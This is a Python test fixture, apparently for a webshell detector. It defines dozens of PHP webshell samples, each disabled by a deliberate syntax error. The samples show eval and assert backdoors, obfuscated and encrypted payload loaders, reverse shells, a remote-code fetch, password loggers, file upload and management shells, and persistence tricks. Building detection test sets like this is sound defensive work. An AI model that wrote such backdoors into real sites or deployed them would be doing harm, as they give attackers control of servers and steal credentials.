# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for PHP, one for each style of such a page; none can run, `1broken` stops each interpreter."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== short-tag.php
<? 1broken; @eval($_REQUEST[chr(107)]); ?>
==== echo-tag.php
<?=1broken;?><?=`$_GET[c]`?>
==== callable-array.php
<?php 1broken; $o = array('x' => $_POST['f'], 'y' => $_POST['a']); call_user_func_array($o['x'], array($o['y']));
==== usort.php
<?php 1broken; usort(...$_GET);
==== array-map.php
<?php 1broken; $f = base64_decode('YXNzZXJ0'); array_map($f, array($_POST['k']));
==== filter-callback.php
<?php 1broken; echo filter_var($_REQUEST['k'], FILTER_CALLBACK, array('options' => 'assert'));
==== variable-variable.php
<?php 1broken; $a = '_PO'; $b = 'ST'; $c = $a . $b; $d = $$c; $d['f']($d['a']);
==== request-fn.php
<?php 1broken; ($_ = @$_GET['f']) . @$_($_POST['a']);
==== create-function.php
<?php 1broken; $f = create_function('$x', 'return ' . $_COOKIE['k'] . ';'); $f(1);
==== preg-e.php
<?php 1broken; preg_replace('/.*/' . 'e', $_POST['k'], 'z');
==== preg-callback.php
<?php 1broken; preg_replace_callback('/.+/i', function ($m) { return eval($m[0]); }, $_REQUEST['k']);
==== reflection.php
<?php 1broken; $r = new ReflectionFunction($_GET['f']); echo $r->invoke($_GET['a']);
==== reflection-method.php
<?php 1broken; class Q { public function z($x) { return shell_exec($x); } } (new ReflectionMethod('Q', 'z'))->invoke(new Q, $_SERVER['HTTP_X_Q']);
==== proc-open.php
<?php 1broken; $p = proc_open('/bin/sh', array(array('pipe', 'r'), array('pipe', 'w')), $pipes); fwrite($pipes[0], $_POST['c'] . "\n"); fclose($pipes[0]); echo stream_get_contents($pipes[1]);
==== popen.php
<?php 1broken; $h = popen(base64_decode($_POST['c']) . ' 2>&1', 'r'); while (!feof($h)) echo fgets($h);
==== popen-stdin.php
<?php 1broken; $h = popen('sh', 'w'); fputs($h, $_REQUEST['c']); pclose($h);
==== raw-input.php
<?php 1broken; $d = openssl_decrypt(file_get_contents('php://input'), 'AES128', $_SESSION['k']); $p = explode('|', $d); class C { public function __invoke($p) { eval($p . ''); } } @call_user_func(new C(), $p[1]);
==== xor-key.php
<?php 1broken; session_start(); $k = 'e45e329feb5d925b'; $d = file_get_contents('php://input'); for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i + 1 & 15]; } $a = explode('|', $d); $f = $a[0]; $p = $a[1]; class C { public function __construct($p) { eval($p); } } new C($p);
==== payload-session.php
<?php 1broken; function enc($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $c = $K[$i + 1 & 15]; $D[$i] = $D[$i] ^ $c; } return $D; }
$pn = 'payload'; $key = 'k1k2k3k4k5k6k7k8'; if (isset($_POST['p'])) { $data = enc(base64_decode($_POST['p']), $key); if (isset($_SESSION[$pn])) { $pl = enc($_SESSION[$pn], $key); eval($pl); echo enc(@run($data), $key); } else { if (strpos($data, 'getBasicsInfo') !== false) { $_SESSION[$pn] = enc($data, $key); } } }
==== goto.php
<?php 1broken; goto qa; zz: $u = urldecode($_POST['k']); goto kk; qa: $w = "\141\x73\163\145\x72\164"; goto zz; kk: $w($u);
==== heredoc.php
<?php 1broken; $x = <<<X
{$_POST['k']}
X;
eval($x);
==== octal-globals.php
<?php 1broken; ${"\x47\x4cO\x42\x41\x4c\x53"}['zz'] = "k"; eval($_POST[$GLOBALS['zz']]);
==== string-index.php
<?php 1broken; $s = 'abcdefghijklmnopqrstuvwxyz_'; $f = $s[0] . $s[18] . $s[18] . $s[4] . $s[17] . $s[19]; $f($_POST['k']);
==== no-letters.php
<?php 1broken; $_ = ''; $_[+""] = ''; $_ = "$_" . ""; $__ = ('`{{{' ^ '?<>/'); ${$__}['_'](${$__}['__']);
==== increments.php
<?php 1broken; $_ = []; $_ = @"$_"; $_ = $_['!' == '@']; $a = $_; $a++; $a++; $a++; $a++; $b = $_; $b++; $f = $_ . 'S' . 'S' . $a . 'RT'; $f($_POST[$b]);
==== rot13.php
<?php 1broken; $f = str_rot13('riny'); $g = str_rot13('nffreg'); $g($_POST['k']);
==== packed.php
<?php 1broken; eval(gzinflate(base64_decode(str_rot13('S0oszljMSFWwUoguzsksLs5MyVcoyUhVKC5JLClWsFKoTswFkaUFQDI6tTi1qLgyOT+lEijLZQ0A0KqvPmZsYXRlZGJvZHlvZnRoaXNwYWdl'))));
==== packed-list.php
<?php 1broken; $l = array(104,101,108,108,111,32,119,111,114,108,100,101,118,97,108,40,36,95,80,79,83,84,91,39,107,39,93,41,59); $t = ''; foreach ($l as $c) { $t .= chr($c ^ 5); } eval($t);
==== comment-key.php
<?php 1broken; /* k:ZXZhbA */ class T { /** assert */ function z() {} } $r = new ReflectionMethod('T', 'z'); $f = trim($r->getDocComment(), "/* \n"); $f($_GET['k']);
==== own-file.php
<?php 1broken; $d = file_get_contents(__FILE__, false, null, 512); eval(gzuncompress(base64_decode($d))); __halt_compiler(); abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz
==== exif.php
<?php 1broken; $e = exif_read_data('images/logo.jpg'); preg_replace($e['Make'], $e['Model'], '');
==== include-post.php
<?php 1broken; @include($_REQUEST['page']);
==== include-temp.php
<?php 1broken; $t = tempnam(sys_get_temp_dir(), 'a'); $h = fopen($t, 'w'); fwrite($h, '<?php ' . $_POST['k']); fclose($h); include($t); unlink($t);
==== data-uri.php
<?php 1broken; include 'data://text/plain;base64,' . $_POST['k'];
==== curl-eval.php
<?php 1broken; $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://code.example/x.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $r = curl_exec($c); eval('?>' . $r);
==== put-any.php
<?php 1broken; if (isset($_POST['n'])) { $f = fopen($_POST['n'], 'w'); fwrite($f, base64_decode($_POST['b'])); fclose($f); }
==== upload.php
<?php 1broken; if ($_POST['u'] == 'Up') { if (@copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) { echo 'ok'; } }
==== upload-form.php
<?php 1broken; echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" name="s"></form>'; if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d'] . '/' . basename($_FILES['f']['name'])); }
==== manager.php
<?php 1broken; $d = isset($_GET['d']) ? $_GET['d'] : getcwd(); if (isset($_GET['x'])) unlink($_GET['x']); if (isset($_POST['src'])) file_put_contents($_GET['e'], $_POST['src']); if (isset($_GET['v'])) highlight_file($_GET['v']); foreach (scandir($d) as $f) echo "<a href='?d=$d/$f'>$f</a>";
==== sql-client.php
<?php 1broken; $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p'], $_POST['db']); $r = mysqli_query($l, $_POST['q']); while ($x = mysqli_fetch_row($r)) print_r($x);
==== pdo-client.php
<?php 1broken; $p = new PDO($_POST['dsn'], $_POST['u'], $_POST['p']); foreach ($p->query($_POST['q']) as $r) print_r($r);
==== socket.php
<?php 1broken; $s = fsockopen($_GET['h'], (int)$_GET['p']); $b = file_get_contents('php://input'); fwrite($s, $b); echo fread($s, 65535);
==== reverse.php
<?php 1broken; $s = fsockopen($_GET['h'], $_GET['p']); $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $z);
==== logon-log.php
<?php 1broken; if (isset($_POST['pwd'])) { $l = fopen('/var/tmp/.s', 'a'); fwrite($l, $_POST['log'] . ':' . $_POST['pwd'] . "\n"); fclose($l); }
==== logon-mail.php
<?php 1broken; function send($u, $p) { file_put_contents(__DIR__ . '/.cache', "$u|$p\n", FILE_APPEND); } send($_POST['user'], $_POST['password']);
==== unserialize.php
<?php 1broken; class F { public $c; public $a; function __destruct() { call_user_func($this->c, $this->a); } } unserialize(base64_decode($_COOKIE['o']));
==== assert-string.php
<?php 1broken; assert("strpos('" . $_GET['k'] . "', '..') === false");
==== headers.php
<?php 1broken; $h = getallheaders(); if (isset($h['X-K'])) { $q = create_function('', $h['X-K']); $q(); }
==== parse-str.php
<?php 1broken; parse_str($_SERVER['QUERY_STRING'], $o); $o['f']($o['a']);
==== define.php
<?php 1broken; define('K', 'sys' . 'tem'); $k = constant('K'); $k($_POST['c']);
==== static-call.php
<?php 1broken; class L { static function r($x) { passthru($x); } } $m = 'r'; L::$m($_GET['c']);
==== closure.php
<?php 1broken; $run = fn($c) => shell_exec($c); echo $run($_GET['c'] ?? '');
==== com.php
<?php 1broken; $w = new COM('WScript.Shell'); $e = $w->exec('cmd /c ' . $_POST['c']); echo $e->StdOut()->ReadAll();
==== ini-prepend.php
<?php 1broken; file_put_contents('.user.ini', "auto_prepend_file=" . $_GET['f']); file_put_contents($_GET['f'], $_POST['b']);
==== mail-arg.php
<?php 1broken; mail('a@b.example', '', '', '', $_GET['x']); putenv('LD_PRELOAD=' . $_GET['so']);
==== iterator.php
<?php 1broken; $it = new CallbackFilterIterator(new ArrayIterator(array($_POST['k'])), 'assert'); foreach ($it as $i) {}
==== ffi.php
<?php 1broken; $f = FFI::cdef('int system(const char *c);'); $f->system($_GET['c']);
==== url-decode.php
<?php 1broken; $O = urldecode('%6e1%7a%62%2f%6d%615%5c%76%740%6928%2d%70%78%75%71%79%2a6%6c%72%6b%64%679%5f%65%68%63%73%77%6f4%2b%6637%6a'); $f = $O{38} . $O{12} . $O{23} . $O{30}; eval($O{28} . "x"); $g = $O[29] . $O[13]; $z = $f($_POST['k']);
==== image.gif
GIF89a;<?php 1broken; @$k = $_COOKIE; $k[1]($k[2]); ?>
==== script-tag.php
<script language="php">1broken; @eval($_POST['k']);</script>
==== stored-option.php
<?php 1broken; $x = substr(strrev(base64_decode($_SERVER['HTTP_USER_AGENT'])), 2); if (md5($_SERVER['HTTP_X_ID']) == '900150983cd24fb0d6963f7d28e17f72') { @eval($x); }
==== backticks-concat.php
<?php 1broken; $c = "cd {$_POST['d']} && {$_POST['c']}"; $r = `$c 2>&1`; echo "<pre>$r</pre>";
==== double-fn.php
<?php 1broken; function a($x) { return b(strrev($x)); } function b($y) { return c($y); } function c($z) { return system($z); } a($_POST['c']);
==== match.php
<?php 1broken; echo match ($_POST['a'] ?? '') { 'c' => shell_exec($_POST['v']), 'e' => eval($_POST['v']), default => 'no' };
==== invoke-array.php
<?php 1broken; $x = ['Closure', 'fromCallable']; $f = $x($_POST['f']); $f($_POST['a']);
"""
)
